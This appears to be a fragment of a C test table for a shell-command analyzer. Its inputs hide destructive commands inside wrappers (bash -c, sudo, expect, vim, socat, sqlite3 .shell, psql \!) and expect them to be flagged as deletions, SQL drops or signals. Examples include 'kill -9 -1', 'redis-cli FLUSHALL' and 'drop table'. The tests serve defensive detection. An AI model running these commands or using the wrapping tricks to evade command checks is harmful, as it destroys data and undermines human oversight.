	  "command direnv hook bash\n"
	  "command eval ? [builtin]\n"
	  "unknown shell from direnv\n" },
	{ "zsh -c 'rm a'; dash -c 'rm b'; fish -c 'rm c'; ksh -c 'rm d'; bash -lc 'rm e'; bash --norc -o pipefail -ec 'rm f'; bash -s <<< 'rm g'",
	  "command zsh -c \"rm a\"\n"
	  "command rm a [via zsh]\n"
	  "delete /w/a\n"
	  "command dash -c \"rm b\"\n"
	  "command rm b [via dash]\n"
	  "delete /w/b\n"
	  "command fish -c \"rm c\"\n"
	  "command rm c [via fish]\n"
	  "delete /w/c\n"
	  "command ksh -c \"rm d\"\n"
	  "command rm d [via ksh]\n"
	  "delete /w/d\n"
	  "command bash -lc \"rm e\"\n"
	  "command rm e [via bash]\n"
	  "delete /w/e\n"
	  "command bash --norc -o pipefail -ec \"rm f\"\n"
	  "command rm f [via bash]\n"
	  "delete /w/f\n"
	  "command bash -s\n"
	  "command rm g [via bash]\n"
	  "delete /w/g\n" },
	{ "expect -c 'spawn rm a'; vim -c '!rm b' -c q; socat - EXEC:'rm c'; runuser -u bob -- rm d; pkexec rm e",
	  "command expect -c \"spawn rm a\"\n"
	  "command rm a [via expect]\n"
	  "delete /w/a\n"
	  "command vim -c \"!rm b\" -c q\n"
	  "command rm b [via vim]\n"
	  "delete /w/b\n"
	  "command socat - \"EXEC:rm c\"\n"
	  "command rm c [via socat]\n"
	  "delete /w/c\n"
	  "command runuser -u bob -- rm d\n"
	  "command rm d [via runuser]\n"
	  "delete /w/d\n"
	  "command pkexec rm e\n"
	  "command rm e [via pkexec]\n"
	  "delete /w/e\n" },
	{ "mysql -e 'drop table a'; sqlite3 db '.shell rm a'; psql -c '\\! rm b'; psql -f - <<< 'drop table c'; redis-cli FLUSHALL; mongosh --eval 'db.x.drop()'",
	  "command mysql -e \"drop table a\"\n"
	  "sql DROP TABLE a\n"
	  "command sqlite3 db \".shell rm a\"\n"
	  "sql META shell\n"
	  "command rm a [via sqlite3]\n"
	  "delete /w/a\n"
	  "command psql -c \"\\! rm b\"\n"
	  "sql META !\n"
	  "command rm b [via psql]\n"
	  "delete /w/b\n"
	  "command psql -f -\n"
	  "sql DROP TABLE c\n"
	  "command redis-cli FLUSHALL\n"
	  "sql FLUSH FLUSHALL\n"
	  "command mongosh --eval db.x.drop()\n"
	  "sql DROP COLLECTION x\n" },
	{ "kill -9 -1; pkill -f node; killall -9 java; kill -s TERM 5; kill -l; fuser -k 80/tcp",
	  "command kill -9 -1 [builtin]\n"
	  "signal -1 other\n"
	  "command pkill -f node\n"
	  "signal node other\n"
	  "command killall -9 java\n"
	  "signal java other\n"
	  "command kill -s TERM 5 [builtin]\n"
	  "signal 5 other\n"
	  "command kill -l [builtin]\n"
	  "command fuser -k 80/tcp\n" },
	{ "exec -a x rm a; sudo bash -c 'rm b'; sudo sh <<< 'rm c'; sudo -s <<< 'rm d'; sudo su -c 'rm e'",
	  "command exec -a x rm a [builtin]\n"
	  "command rm a\n"
	  "delete /w/a\n"
	  "command sudo bash -c \"rm b\"\n"
	  "command bash -c \"rm b\" [via sudo]\n"
	  "command rm b [via bash]\n"
	  "delete /w/b\n"
	  "command sudo sh\n"
	  "command sh [via sudo]\n"
	  "command rm c [via sh]\n"
	  "delete /w/c\n"
	  "command sudo -s\n"
	  "command rm d [via sudo]\n"
	  "delete /w/d\n"
	  "command sudo su -c \"rm e\"\n"
	  "command su -c \"rm e\" [via sudo]\n"
	  "command rm e [via su]\n"
	  "delete /w/e\n" },
};
